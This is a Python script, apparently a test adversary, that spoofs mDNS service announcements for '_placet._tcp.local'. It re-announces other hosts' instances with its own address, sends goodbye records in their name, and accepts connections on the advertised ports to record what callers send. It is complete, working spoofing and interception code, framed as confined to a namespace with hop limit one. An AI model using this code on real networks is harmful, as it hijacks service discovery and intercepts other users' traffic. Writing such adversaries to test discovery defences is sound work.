"""A hostile host: answers mDNS in the names of others, and says goodbye for them.

Everything that it hears announced it announces again with its own address and its own port, and then takes
back, as anyone on a network can. Stands on its own: `python spoofer.py ADDRESS` runs in a namespace until
its standard input ends. Prints lines of JSON: whom it spoofed, and what reached its ports. Never leaves the
link: its multicast has a hop limit of one.
"""

import json
import selectors
import socket
import struct
import sys

GROUP, PORT = "224.0.0.251", 5353
_A, _PTR, _TXT, _SRV = 1, 12, 16, 33
_FLUSH_IN = 0x8001
"""Class IN, and the bit that tells everyone to forget what others said (RFC 6762, 10.2)."""
AGAIN_S = 0.5
SERVICE = "_placet._tcp.local"


def name_at(packet: bytes, offset: int) -> tuple[str, int]:
    """Read a name, compressed or not; return it and where it ends."""
    labels: list[str] = []
    end = 0
    for _ in range(64):
        length = packet[offset]
        if length >= 0xC0:
            end = end or offset + 2
            offset = struct.unpack_from("!H", packet, offset)[0] & 0x3FFF
            continue
        offset += 1
        if not length:
            break
        labels.append(packet[offset : offset + length].decode("utf-8", "replace"))
        offset += length
    return ".".join(labels), end or offset


def encoded_name(name: str) -> bytes:
    """Write a name."""
    labels = [label.encode() for label in name.split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(name: str, kind: int, ttl_s: int, value: bytes, *, flush: bool = True) -> bytes:
    """Write a record."""
    fixed = struct.pack("!HHIH", kind, _FLUSH_IN if flush else 1, ttl_s, len(value))
    return encoded_name(name) + fixed + value


def answer(records: list[bytes]) -> bytes:
    """Write a response that nobody asked for."""
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def services(packet: bytes) -> dict[str, tuple[int, bytes]]:
    """Return the services that a response tells of: their instances, with port and text."""
    questions, *counts = struct.unpack_from("!4H", packet, 4)
    offset, ports, texts = 12, {}, {}
    for _ in range(questions):
        offset = name_at(packet, offset)[1] + 4
    for _ in range(sum(counts)):
        name, offset = name_at(packet, offset)
        kind, _, _, length = struct.unpack_from("!HHIH", packet, offset)
        offset += 10
        if kind == _SRV:
            ports[name] = struct.unpack_from("!H", packet, offset + 4)[0]
        elif kind == _TXT:
            texts[name] = packet[offset : offset + length]
        offset += length
    return {name: (port, texts.get(name, b"\0")) for name, port in ports.items() if name.endswith(SERVICE)}


def lies(instance: str, port: int, text: bytes, own: str, host: str) -> list[bytes]:
    """Return what is said in a member's name: its own words with another host and address; goodbye."""
    words = [
        record(SERVICE, _PTR, 4500, encoded_name(instance), flush=False),
        record(instance, _SRV, 120, struct.pack("!HHH", 0, 0, port) + encoded_name(host)),
        record(instance, _TXT, 4500, text),
        record(host, _A, 120, socket.inet_aton(own)),
    ]
    removed = [
        record(SERVICE, _PTR, 0, encoded_name(instance), flush=False),
        record(instance, _SRV, 0, struct.pack("!HHH", 0, 0, port) + encoded_name(host)),
    ]
    return [answer(words), answer(removed), answer(words)]


class Spoofer:
    """The host: hears, lies, and listens on every port that it lured others to."""

    def __init__(self, own: str) -> None:
        self._own = own
        self._waiting = selectors.DefaultSelector()
        self._mdns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._mdns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._mdns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        self._mdns.bind(("", PORT))
        membership = socket.inet_aton(GROUP) + socket.inet_aton(own)
        self._mdns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
        self._mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        self._mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
        self._waiting.register(self._mdns, selectors.EVENT_READ)
        self._waiting.register(sys.stdin, selectors.EVENT_READ)
        self.spoofed: dict[str, tuple[int, bytes]] = {}
        self._told = 0
        self.lured: dict[int, socket.socket] = {}
        self.calls = 0
        self.heard = b""

    def run(self) -> None:
        """Lie, again and again. Asks at first, so that those that are there already speak."""
        question = struct.pack("!6H", 0, 0, 1, 0, 0, 0) + encoded_name(SERVICE) + struct.pack("!HH", _PTR, 1)
        self._mdns.sendto(question, (GROUP, PORT))
        while True:
            ready = [key.fileobj for key, _ in self._waiting.select(AGAIN_S)]
            for element in ready:
                if element is sys.stdin:
                    return
                if element is self._mdns:
                    self._hear(*self._mdns.recvfrom(9000))
                elif isinstance(element, socket.socket):
                    self._pick_up(element)
            for instance in () if ready else self.spoofed:
                self._lie(instance)

    def _hear(self, packet: bytes, sender: tuple[str, int]) -> None:
        if sender[0] == self._own or not packet[2] & 0x80:
            return
        for instance, (port, text) in services(packet).items():
            self._lure(port)
            expected = instance in self.spoofed
            self.spoofed[instance] = port, text
            self._lie(instance)
            if not expected:
                self.tell()

    def _lie(self, instance: str) -> None:
        """Tell of a new host each time: whoever has heard of it already would not look again."""
        self._told += 1
        for lie in lies(instance, *self.spoofed[instance], self._own, f"liar{self._told}.local"):
            self._mdns.sendto(lie, (GROUP, PORT))

    def tell(self) -> None:
        """Print what there is to tell so far."""
        fields = {"spoofed": len(self.spoofed), "calls": self.calls, "heard": self.heard.hex()}
        print(json.dumps(fields), flush=True)

    def _lure(self, port: int) -> None:
        if port not in self.lured:
            self.lured[port] = socket.create_server(("", port))
            self._waiting.register(self.lured[port], selectors.EVENT_READ)

    def _pick_up(self, lured: socket.socket) -> None:
        """Take a call, and whatever the caller says before it asks who is there."""
        caller, _ = lured.accept()
        self.calls += 1
        caller.settimeout(0.2)
        try:
            self.heard += caller.recv(1 << 16)
        except OSError:
            # It said nothing.
            pass
        caller.close()


def main() -> None:
    """Lie, and tell of it."""
    liar = Spoofer(sys.argv[1])
    liar.run()
    liar.tell()


if __name__ == "__main__":
    main()
